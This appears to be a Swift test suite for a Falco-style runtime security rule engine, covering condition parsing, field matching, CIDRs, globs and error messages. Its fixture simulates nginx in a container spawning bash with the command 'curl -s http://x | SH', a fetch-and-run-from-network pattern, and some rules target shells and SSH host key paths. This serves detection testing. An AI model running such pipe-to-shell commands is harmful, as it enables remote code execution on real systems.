@@ -1,0 +1,171 @@
+import Testing
+@testable import Engine
+import SentinelJSON
+
+@Suite struct ConditionTests {
+    private func shellInContainer() -> Harness {
+        let harness = Harness()
+        harness.feed(Event(type: .container, time: 1, pid: 0, containerID: "abcdef0123456789" + String(repeating: "0", count: 48),
+                           payload: .container(ContainerFacts(name: "web", image: "registry.local:5000/shop/web:1.4"))))
+        harness.feed(exec(10, ppid: 1, "/usr/bin/containerd-shim-runc-v2", ["containerd-shim-runc-v2"], container: "host"))
+        harness.feed(clone(20, parent: 10, container: "abcdef0123456789" + String(repeating: "0", count: 48)))
+        harness.feed(exec(20, ppid: 10, "/usr/sbin/nginx", ["nginx", "-g", "daemon off;"]))
+        harness.feed(clone(21, parent: 20))
+        harness.feed(exec(21, ppid: 20, "/bin/bash", ["bash", "-c", "curl -s http://x | SH"], uid: 33))
+        return harness
+    }
+
+    @Test func stringOperators() throws {
+        let harness = shellInContainer()
+        #expect(try harness.matches("proc.name = bash"))
+        #expect(try harness.matches("proc.name == bash"))
+        #expect(try !harness.matches("proc.name != bash"))
+        #expect(try harness.matches("proc.name in (sh, bash, zsh)"))
+        #expect(try harness.matches("proc.cmdline contains \"curl -s\""))
+        #expect(try !harness.matches("proc.cmdline contains 'CURL'"))
+        #expect(try harness.matches("proc.cmdline icontains 'CURL'"))
+        #expect(try harness.matches("proc.exepath startswith /bin/"))
+        #expect(try harness.matches("proc.exepath endswith /bash"))
+        #expect(try harness.matches("proc.exepath glob '/b?n/*'"))
+        #expect(try !harness.matches("proc.exepath glob '/usr/*'"))
+        #expect(try harness.matches("proc.args = \"-c curl -s http://x | SH\""))
+        #expect(try harness.matches("proc.cwd exists") == false)
+    }
+
+    @Test func numbersAndTypes() throws {
+        let harness = shellInContainer()
+        #expect(try harness.matches("proc.pid = 21 and proc.ppid = 20"))
+        #expect(try harness.matches("user.uid > 0 and user.uid <= 33 and user.uid in (33, 48)"))
+        #expect(try !harness.matches("user.uid < 33"))
+        #expect(try harness.matches("evt.type = execve and evt.time >= 1"))
+    }
+
+    @Test func ancestryFields() throws {
+        let harness = shellInContainer()
+        #expect(try harness.matches("proc.pname = nginx and proc.aname[1] = nginx and proc.aname[2] = containerd-shim-runc-v2"))
+        #expect(try harness.matches("proc.apid[1] = 20 and proc.apid[2] = 10"))
+        #expect(try harness.matches("proc.aname = containerd-shim-runc-v2"), "without an index, any ancestor")
+        #expect(try harness.matches("proc.aname in (nginx, httpd)"))
+        #expect(try !harness.matches("proc.aname = bash"), "the process itself is not its own ancestor")
+        #expect(try harness.matches("proc.apid = 10"))
+        #expect(try !harness.matches("proc.aname[5] exists"))
+        #expect(try harness.matches("proc.aname exists"))
+    }
+
+    @Test func containerFields() throws {
+        let harness = shellInContainer()
+        #expect(try harness.matches("container.id = abcdef012345"), "the short id, as docker ps shows")
+        #expect(try harness.matches("container.full_id startswith abcdef0123456789"))
+        #expect(try harness.matches("container.name = web and container.image = registry.local:5000/shop/web:1.4"))
+        #expect(try harness.matches("container.image.repository = registry.local:5000/shop/web and container.image.tag = 1.4"))
+        #expect(try !harness.matches("container.id = host"))
+    }
+
+    @Test func missingFieldsMakeComparisonsFalse() throws {
+        let harness = shellInContainer()
+        // fd.name does not apply to execve: every comparison on it is false, even !=.
+        #expect(try !harness.matches("fd.name = x"))
+        #expect(try !harness.matches("fd.name != x"))
+        #expect(try harness.matches("not fd.name = x"))
+        #expect(try !harness.matches("fd.name exists"))
+    }
+
+    @Test func networkFieldsAndCIDRs() throws {
+        let harness = Harness()
+        harness.feed(exec(5, ppid: 1, "/usr/bin/curl", ["curl"]))
+        let source = Endpoint(address: IPAddress("10.1.2.3")!, port: 40000)
+        let destination = Endpoint(address: IPAddress("2001:db8::7")!, port: 443)
+        _ = destination
+        harness.feed(Event(type: .connect, time: 2, pid: 5,
+                           payload: .socket(Connection(direction: .outbound, source: source, destination: Endpoint(address: IPAddress("93.184.216.34")!, port: 443)))))
+        #expect(try harness.matches("fd.sip = 10.1.2.3 and fd.sip = 10.0.0.0/8 and fd.sport = 40000"))
+        #expect(try harness.matches("fd.dip in (192.168.0.0/16, 93.184.0.0/16) and fd.dport = 443"))
+        #expect(try harness.matches("fd.lip = 10.1.2.3 and fd.rip = 93.184.216.34 and fd.rport = 443 and fd.lport = 40000"))
+        #expect(try harness.matches("fd.name = \"10.1.2.3:40000->93.184.216.34:443\" and fd.direction = outbound and fd.l4proto = tcp"))
+        #expect(try !harness.matches("fd.dip = ::1"))
+        harness.feed(Event(type: .accept, time: 3, pid: 5,
+                           payload: .socket(Connection(direction: .inbound, source: Endpoint(address: IPAddress("2001:db8::9")!, port: 5555),
+                                                       destination: Endpoint(address: IPAddress("2001:db8::1")!, port: 22)))))
+        #expect(try harness.matches("fd.rip = 2001:db8::/32 and fd.lport = 22 and fd.sport = 5555"))
+        #expect(try harness.matches("fd.name = \"[2001:db8::9]:5555->[2001:db8::1]:22\""))
+    }
+
+    @Test func precedenceAndNegation() throws {
+        let harness = shellInContainer()
+        // `and` binds tighter than `or`; `not` tighter than both.
+        #expect(try harness.matches("proc.name = x or proc.name = bash and proc.pid = 21"))
+        #expect(try !harness.matches("(proc.name = x or proc.name = bash) and proc.pid = 1"))
+        #expect(try harness.matches("not proc.name = x and not not proc.pid = 21"))
+    }
+
+    @Test func eventTypesAreInferredForTheIndex() throws {
+        #expect(try compile("evt.type = execve and proc.name = sh").eventTypes == [.execve])
+        #expect(try compile("evt.type in (open, openat) or evt.type = connect").eventTypes == [.open, .openat, .connect])
+        #expect(try compile("fd.dport = 443").eventTypes == [.connect, .accept, .listen, .close])
+        #expect(try compile("evt.type != execve").eventTypes == ConditionCompiler.defaultEventTypes.subtracting([.execve]))
+        #expect(try !compile("proc.name = sh").eventTypes.contains(.syscall), "system calls only when named")
+        #expect(try compile("evt.type = syscall and syscall.nr = 59").eventTypes == [.syscall])
+    }
+
+    @Test(arguments: [
+        ("proc.pid = abc", "column 12: \"abc\" is not a number, and proc.pid is a number field"),
+        ("proc.nmae = x", "column 1: unknown field \"proc.nmae\" (did you mean \"proc.name\"?)"),
+        ("proc.name contain x", "column 11: unknown operator 'contain' after 'proc.name' (expected one of: = != < <= > >= in contains icontains startswith endswith glob exists)"),
+        ("(proc.name = x", "column 1: unclosed '(': no matching ')'"),
+        ("proc.name = x)", "column 14: unbalanced ')'"),
+        ("", "column 1: the condition is empty"),
+        ("proc.pid startswith 1", "column 10: operator 'startswith' does not apply to proc.pid, a number field"),
+        ("fd.sip = 1.2.3", "column 10: \"1.2.3\" is not an IP address or CIDR network, and fd.sip is an ip field"),
+        ("proc.name in (a, b", "column 14: unclosed '(': the list has no ')'"),
+        ("evt.type = exceve", "column 12: unknown event type \"exceve\" (did you mean \"execve\"?)"),
+        ("proc.aname[0] = x", "column 11: the index must be between 1 and 1000"),
+        ("some_macro", "column 1: unknown macro \"some_macro\""),
+    ])
+    func errorsNameTheColumn(condition: String, message: String) {
+        #expect(compileError(condition) == message)
+    }
+
+    @Test func hostileNestingIsRefused() {
+        let deep = String(repeating: "(", count: 150) + "proc.pid = 1" + String(repeating: ")", count: 150)
+        #expect(compileError(deep)?.contains("nesting deeper than 100 levels") == true)
+        let notChain = String(repeating: "not ", count: 150) + "proc.pid = 1"
+        #expect(compileError(notChain)?.contains("nesting deeper than 100 levels") == true)
+    }
+}
+
+@Suite struct MatchingTests {
+    @Test func globs() {
+        #expect(GlobPattern("/etc/ssh/ssh_host_*_key").matches("/etc/ssh/ssh_host_rsa_key"))
+        #expect(!GlobPattern("/etc/ssh/ssh_host_*_key").matches("/etc/ssh/ssh_host_rsa_key.pub"))
+        #expect(GlobPattern("*.sh").matches("/a/b/c.sh"), "* crosses slashes, as in Falco")
+        #expect(GlobPattern("file[0-9]").matches("file7"))
+        #expect(!GlobPattern("file[!0-9]").matches("file7"))
+        #expect(GlobPattern("a\\*b").matches("a*b"))
+        #expect(!GlobPattern("a\\*b").matches("axb"))
+        #expect(GlobPattern("").matches(""))
+        // Many stars against a long non-matching text finish quickly (no exponential backtracking).
+        #expect(!GlobPattern(String(repeating: "*a", count: 30) + "b").matches(String(repeating: "a", count: 5000)))
+    }
+
+    @Test func substrings() {
+        #expect(ByteNeedle("ell", caseInsensitive: false).isFound(in: "hello"))
+        #expect(!ByteNeedle("ELL", caseInsensitive: false).isFound(in: "hello"))
+        #expect(ByteNeedle("ELL", caseInsensitive: true).isFound(in: "hello"))
+        #expect(ByteNeedle("", caseInsensitive: false).isFound(in: ""))
+        #expect(!ByteNeedle("hello!", caseInsensitive: false).isFound(in: "hello"))
+        #expect(ByteNeedle("é", caseInsensitive: true).isFound(in: "café"))
+    }
+
+    @Test func networks() {
+        #expect(IPNetwork("10.0.0.0/8")!.contains(IPAddress("10.255.1.2")!))
+        #expect(!IPNetwork("10.0.0.0/8")!.contains(IPAddress("11.0.0.1")!))
+        #expect(IPNetwork("0.0.0.0/0")!.contains(IPAddress("8.8.8.8")!))
+        #expect(!IPNetwork("0.0.0.0/0")!.contains(IPAddress("::1")!), "families never match each other")
+        #expect(IPNetwork("fe80::/10")!.contains(IPAddress("fe80::1")!))
+        #expect(IPNetwork("2001:db8::1/128")!.contains(IPAddress("2001:db8::1")!))
+        #expect(!IPNetwork("2001:db8::1/128")!.contains(IPAddress("2001:db8::2")!))
+        #expect(IPNetwork("10.0.0.0/33") == nil)
+        #expect(IPAddress("2001:db8::1")!.description == "2001:db8::1")
+        #expect(IPAddress("192.0.2.1")!.description == "192.0.2.1")
+    }
+}
